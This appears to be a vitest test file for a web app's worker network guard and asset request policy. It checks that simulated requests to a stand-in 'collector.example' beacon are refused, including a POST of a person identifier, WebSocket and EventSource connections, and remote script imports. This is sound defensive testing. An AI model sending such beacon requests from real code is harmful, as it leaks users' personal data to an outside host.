import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { appBaseOf } from '../../../workers/security/app-base';
import { isAllowedRequest } from '../../../workers/security/asset-policy';
import { guardNetwork, type NetworkScope } from '../../../workers/security/network-guard';

/** The requests a worker is made to attempt (test/attacks/csp/README.md). */
interface RequestCase {
  readonly id: string;
  readonly api: 'fetch' | 'fetch-post' | 'xhr' | 'websocket' | 'eventsource';
  readonly url: string;
  readonly expect: 'refused' | 'sent';
}

const CASES = JSON.parse(
  readFileSync(new URL('../../attacks/csp/worker-requests.json', import.meta.url), 'utf8'),
) as RequestCase[];

const SCRIPT = 'https://audit.example/claimlens/assets/kernel.worker-abc123.js';
const BEACON = 'https://collector.example';

/** A worker scope whose network APIs only write down what reached them. */
function fakeScope(sent: string[]): NetworkScope {
  class FakeXhr {
    open(method: string, url: string) {
      sent.push(`xhr ${method} ${url}`);
    }
  }
  class FakeWorker {
    constructor(url: string | URL) {
      sent.push(`worker ${String(url)}`);
    }
  }
  class FakeConnection {
    constructor(url: string) {
      sent.push(`connection ${url}`);
    }
  }
  return {
    location: { href: SCRIPT },
    fetch: async (input: RequestInfo | URL, init?: RequestInit) => {
      sent.push(`fetch ${init?.method ?? 'GET'} ${String(input)}`);
      return new Response('');
    },
    XMLHttpRequest: FakeXhr as unknown as typeof XMLHttpRequest,
    importScripts: (...urls: (string | URL)[]) => void sent.push(`importScripts ${urls.join(' ')}`),
    Worker: FakeWorker as unknown as typeof Worker,
    WebSocket: FakeConnection,
    EventSource: FakeConnection,
  };
}

async function attempt(scope: NetworkScope, c: RequestCase, url: string): Promise<'sent' | 'refused'> {
  try {
    switch (c.api) {
      case 'fetch':
        await scope.fetch!(url);
        return 'sent';
      case 'fetch-post':
        await scope.fetch!(url, { method: 'POST', body: 'psn_no=P0001' });
        return 'sent';
      case 'xhr':
        new scope.XMLHttpRequest!().open('GET', url, false);
        return 'sent';
      case 'websocket':
        new (scope.WebSocket as new (u: string) => unknown)(url);
        return 'sent';
      case 'eventsource':
        new (scope.EventSource as new (u: string) => unknown)(url);
        return 'sent';
    }
  } catch {
    return 'refused';
  }
}

describe('guardNetwork (a worker without a CSP)', () => {
  it('lets through only reads of the app’s own files, for every case of the attack corpus', async () => {
    const sent: string[] = [];
    const scope = fakeScope(sent);
    guardNetwork(scope, appBaseOf(SCRIPT));
    for (const c of CASES) {
      const url = c.url
        .replace('{beacon}', BEACON)
        .replace('{beacon-ws}', BEACON.replace(/^https/, 'wss'))
        .replace('{script}', SCRIPT);
      expect({ id: c.id, outcome: await attempt(scope, c, url) }).toEqual({ id: c.id, outcome: c.expect });
    }
    expect(sent).toEqual([`fetch GET ${SCRIPT}`]);
  });

  it('refuses a fetch with the TypeError a blocked request gives, naming the URL and the doc', async () => {
    const scope = fakeScope([]);
    guardNetwork(scope, appBaseOf(SCRIPT));
    await expect(scope.fetch!(`${BEACON}/x`)).rejects.toThrow(TypeError);
    await expect(scope.fetch!(`${BEACON}/x`)).rejects.toThrow(/collector\.example.*docs\/hosting\.md/);
  });

  it('starts nested workers and imports scripts only from the app’s own files', () => {
    const sent: string[] = [];
    const scope = fakeScope(sent);
    guardNetwork(scope, appBaseOf(SCRIPT));
    const duckdb = 'https://audit.example/claimlens/assets/duckdb-engine.worker-def456.js';
    new scope.Worker!(duckdb, { type: 'module' });
    expect(() => new scope.Worker!('blob:https://audit.example/0f1e')).toThrow(/SecurityError|refused/);
    expect(() => new scope.Worker!(`${BEACON}/w.js`)).toThrow(/refused/);
    expect(() => scope.importScripts!(`${BEACON}/s.js`)).toThrow(/refused/);
    scope.importScripts!('./helper-abc.js');
    expect(sent).toEqual([`worker ${duckdb}`, 'importScripts ./helper-abc.js']);
  });
});

describe('isAllowedRequest', () => {
  const base = appBaseOf(SCRIPT);
  it.each([
    ['read', 'GET', 'https://audit.example/claimlens/assets/duckdb-eh-1a2b.wasm', true],
    ['read', 'HEAD', SCRIPT, true],
    ['read', 'GET', './duckdb-eh-1a2b.wasm', true],
    ['read', 'GET', 'blob:https://audit.example/0f1e', true],
    ['read', 'GET', 'data:text/plain,x', true],
    ['script', 'GET', 'blob:https://audit.example/0f1e', false],
    ['read', 'POST', SCRIPT, false],
    ['read', 'GET', `${SCRIPT}?psn_no=P0001`, false],
    ['read', 'GET', 'https://audit.example/other-app/data.json', false],
    ['read', 'GET', 'http://audit.example/claimlens/assets/x.js', false],
    ['read', 'GET', 'https://collector.example/claimlens/assets/x.js', false],
    ['read', 'GET', 'ftp://audit.example/claimlens/x', false],
  ] as const)('%s %s %s → %s', (kind, method, url, allowed) => {
    expect(isAllowedRequest(kind, method, url, base, SCRIPT)).toBe(allowed);
  });
});

describe('appBaseOf', () => {
  it('is the parent of the built assets folder', () => {
    expect(appBaseOf(SCRIPT).href).toBe('https://audit.example/claimlens/');
  });
  it('is the origin’s root for a worker served from elsewhere (the dev server)', () => {
    expect(appBaseOf('http://127.0.0.1:5173/workers/kernel.worker.ts?worker_file').href).toBe(
      'http://127.0.0.1:5173/',
    );
  });
});
